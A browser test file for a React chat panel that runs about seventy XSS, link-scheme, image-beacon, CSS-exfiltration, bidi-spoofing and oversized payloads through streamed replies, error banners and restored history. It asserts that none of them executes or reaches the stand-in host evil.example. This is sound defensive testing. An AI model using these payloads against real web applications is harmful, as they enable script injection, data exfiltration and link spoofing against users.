/**
 * Hostile content, in real Chromium: a corpus of script, event-handler, URL, style, image
 * exfiltration, bidi-spoofing and oversized payloads, each shown as a whole reply, streamed
 * one character per token (so every split point is rendered mid-stream), as an `error` and
 * as a system message, and restored from stored history. After every render nothing may
 * have run, no link may lead anywhere but http(s) or mailto, no image may load, and no
 * request may leave for the hostile host.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import { ChatPanel } from '../src/components/chat-panel.tsx';
import type { HistoryStorage } from '../src/core/persistence.ts';
import { type ChatStore, createChatStore } from '../src/core/store.ts';
import { ChatStoreProvider } from '../src/react/context.tsx';

const RAN = '__chatwireXss';
const run = `window.${RAN}=1`;
const EVIL = 'evil.example';

/** Each payload tries to run `run`, load from EVIL, or lead a click somewhere unsafe. */
const PAYLOADS: string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<a href="javascript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\tscript:${run})`,
  `[x](java\nscript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](&#x6A;avascript:${run})`,
  `[x](&#0000106avascript:${run})`,
  `[x](javascript&colon;${run})`,
  `[x](java%0ascript:${run})`,
  `[x](  javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd)`,
  `[x](//${EVIL}/x)`,
  `[x](tel:123)`,
  `[x][ref]\n\n[ref]: javascript:${run}`,
  `[x][r]\n\n[r]: JAVASCRIPT:${run} "t"`,
  `[x][d]\n\n[d]: data:text/html,hi`,
  `<javascript:${run}>`,
  `<JAVASCRIPT:${run}>`,
  `<data:text/html,hi>`,
  `www.${EVIL}/?q=javascript:${run}`,
  `![x](https://${EVIL}/?q=secret)`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](//${EVIL}/pixel.png)`,
  `![x][img]\n\n[img]: https://${EVIL}/ref.png`,
  `<img src="https://${EVIL}/track.png">`,
  `<img srcset="https://${EVIL}/a.png 1x">`,
  `<div style="background:url(https://${EVIL}/x)">x</div>`,
  `<style>body{background:url(https://${EVIL}/x)}</style>`,
  `<link rel=stylesheet href=https://${EVIL}/x.css>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<input onfocus="${run}" autofocus>`,
  `<details open ontoggle="${run}">`,
  `<body onload="${run}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `"><img src=x onerror="${run}">`,
  `'';!--"<XSS>=&{()}`,
  `[a](https://example.com "t\\" onmouseover=\\"${run}")`,
  `[a](https://example.com)<img src=x onerror="${run}">`,
  `**<img src=x onerror="${run}">**`,
  `\`<script>${run}</script>\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `<a href="https://${EVIL}" onclick="${run}">click</a>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<!-- <img src=x onerror="${run}"> -->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `[https://bank.example\u202Egnp.exe](https://${EVIL})`,
  `[click](https://good.example\u202E/moc.live)`,
  `\u202Ehttps://${EVIL}`,
  `| a | b |\n| - | - |\n| <img src=x onerror="${run}"> | [x](javascript:${run}) |`,
  `- [ ] <img src=x onerror="${run}">\n- [x] [y](javascript:${run})`,
  `${'>'.repeat(3_000)} deep`,
  `${'*'.repeat(10_000)}`,
  `${'['.repeat(5_000)}x${'](javascript:1)'.repeat(200)}`,
  `${'- '.repeat(2_000)}deep list`,
];

/** Payloads short enough to stream one character per token (every split point rendered). */
const STREAMED = PAYLOADS.filter((payload) => payload.length <= 400);

const figures = { renders: 0, scriptRuns: 0, unsafeHrefs: 0, images: 0 };

afterAll(() => {
  const requests = performance
    .getEntriesByType('resource')
    .filter((entry) => entry.name.includes(EVIL)).length;
  console.info(
    `[figure] ${PAYLOADS.length} payloads, ${figures.renders} renders checked: ` +
      `${figures.scriptRuns} script runs, ${figures.unsafeHrefs} unsafe hrefs, ` +
      `${figures.images} images, ${requests} requests to ${EVIL}`,
  );
  expect(requests).toBe(0);
});

/** Yields to the event loop (React renders a store update in a microtask or task). */
const nextTask = () =>
  new Promise<void>((resolve) => {
    const channel = new MessageChannel();
    channel.port1.onmessage = () => {
      channel.port1.close();
      resolve();
    };
    channel.port2.postMessage(null);
  });

/** Fails the test if anything hostile got through in `root` (the transcript and banners). */
function assertSafe(root: HTMLElement, payload: string) {
  figures.renders++;
  const where = `payload ${JSON.stringify(payload.slice(0, 80))}`;
  const ran = (window as unknown as Record<string, unknown>)[RAN] !== undefined;
  if (ran) figures.scriptRuns++;
  expect(ran, where).toBe(false);
  const scope = [...root.querySelectorAll('[role="log"] *, [role="alert"] *')];
  for (const element of scope) {
    const tag = element.tagName.toLowerCase();
    expect(
      [
        'script',
        'iframe',
        'object',
        'embed',
        'style',
        'link',
        'meta',
        'form',
        'input',
        'svg',
        'math',
        'template',
        'base',
      ],
      `${where}: <${tag}>`,
    ).not.toContain(tag);
    for (const attribute of element.getAttributeNames()) {
      expect(attribute.startsWith('on'), `${where}: ${attribute}`).toBe(false);
      expect(['srcset', 'formaction', 'xlink:href', 'background'], where).not.toContain(attribute);
    }
    if (tag === 'img') figures.images++;
    expect(tag, `${where}: an image loaded without being allowed`).not.toBe('img');
    const style = element.getAttribute('style') ?? '';
    expect(style.includes('url('), `${where}: style ${style}`).toBe(false);
    if (tag === 'a' && element.hasAttribute('href')) {
      const { protocol } = new URL((element as HTMLAnchorElement).href);
      const safe = ['http:', 'https:', 'mailto:'].includes(protocol);
      if (!safe) figures.unsafeHrefs++;
      expect(safe, `${where}: href ${element.getAttribute('href')}`).toBe(true);
    }
  }
  // Direction controls never reach the screen.
  expect(
    /[\u202A-\u202E\u2066-\u2069]/.test(root.querySelector('[role="log"]')?.textContent ?? ''),
    where,
  ).toBe(false);
}

const frame = (payload: object) =>
  JSON.stringify({ ...payload, timestamp: new Date().toISOString() });

async function renderStore(store: ChatStore) {
  const screen = await render(
    <div style={{ height: 500, width: 420 }}>
      <ChatStoreProvider store={store}>
        <ChatPanel />
      </ChatStoreProvider>
    </div>,
  );
  return screen.container as HTMLElement;
}

describe('hostile content', () => {
  it('renders every payload as a whole reply safely, with markdown on and off', {
    timeout: 60_000,
  }, async () => {
    for (const renderMarkdown of [true, false]) {
      const store = createChatStore();
      const screen = await render(
        <div style={{ height: 500, width: 420 }}>
          <ChatStoreProvider store={store}>
            <ChatPanel renderMarkdown={renderMarkdown} />
          </ChatStoreProvider>
        </div>,
      );
      for (const [index, payload] of PAYLOADS.entries()) {
        const messageId = `whole-${index}`;
        store.actions.receive(frame({ type: 'stream-start', messageId }));
        store.actions.receive(frame({ type: 'stream-token', messageId, token: payload }));
        store.actions.receive(frame({ type: 'stream-end', messageId }));
        await nextTask();
        assertSafe(screen.container as HTMLElement, payload);
      }
      await screen.unmount();
    }
  });

  it('stays safe at every point of every payload streamed one character per token', {
    timeout: 120_000,
  }, async () => {
    const store = createChatStore();
    const root = await renderStore(store);
    for (const [index, payload] of STREAMED.entries()) {
      const messageId = `streamed-${index}`;
      store.actions.receive(frame({ type: 'stream-start', messageId }));
      for (const character of Array.from(payload)) {
        store.actions.receive(frame({ type: 'stream-token', messageId, token: character }));
        await nextTask();
        assertSafe(root, payload);
      }
      store.actions.receive(frame({ type: 'stream-end', messageId }));
      await nextTask();
      assertSafe(root, payload);
      // Each payload streams into an empty transcript, so each check reads one reply.
      store.actions.clearHistory();
    }
  });

  it('shows every payload as an error and as a system message, as text', async () => {
    const store = createChatStore();
    const root = await renderStore(store);
    for (const payload of PAYLOADS) {
      store.actions.receive(frame({ type: 'error', message: payload }));
      store.actions.receive(frame({ type: 'human-escalation-response', message: payload }));
      await nextTask();
      assertSafe(root, payload);
    }
  });

  it('renders every payload restored from stored history safely', async () => {
    const key = 'chatwire:xss';
    const at = new Date().toISOString();
    const messages = PAYLOADS.flatMap((payload, index) => [
      { id: `user:${index}`, role: 'user', text: payload, status: 'sent', createdAt: at },
      {
        id: `assistant:h${index}`,
        role: 'assistant',
        messageId: `h${index}`,
        text: payload,
        status: index % 2 ? 'complete' : 'streaming',
        createdAt: at,
      },
    ]);
    const items = new Map([[key, JSON.stringify({ version: 1, state: { messages } })]]);
    const storage: HistoryStorage = {
      getItem: (name) => items.get(name) ?? null,
      setItem: (name, value) => void items.set(name, value),
      removeItem: (name) => void items.delete(name),
    };
    const store = createChatStore({ history: { storage, maxStoredMessages: 1_000 } });
    const root = await renderStore(store);
    await store.history?.open(key);
    // The transcript fills in older messages while idle: wait until all are in the DOM.
    await expect
      .poll(() => root.querySelectorAll('[role="log"] [role="listitem"][data-role]').length, {
        timeout: 10_000,
      })
      .toBe(messages.length);
    assertSafe(root, 'stored history');
  });
});
